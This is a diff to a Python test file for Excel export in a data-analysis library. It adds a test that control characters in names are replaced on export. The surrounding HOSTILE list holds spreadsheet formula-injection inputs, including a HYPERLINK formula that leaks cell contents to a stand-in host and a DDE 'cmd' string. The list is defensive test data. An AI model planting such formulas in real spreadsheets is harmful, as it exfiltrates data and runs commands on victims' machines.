@@ -22,6 +22,14 @@ HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1+cmd|' /
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
 
 
+def test_control_characters_are_replaced_not_an_untyped_error():
+    fit = hostile_fit(["a\x0cb", "c\x01"])
+    buf = io.BytesIO()
+    lagwise.robustness_table(fit, "hc1").to_excel(buf)
+    values = {c.value for _, c in cells(buf.getvalue()) if isinstance(c.value, str)}
+    assert "a\ufffdb" in values and "c\ufffd" in values
+
+
 def hostile_fit(names=HOSTILE):
     rng = np.random.default_rng(3)
     n = 80
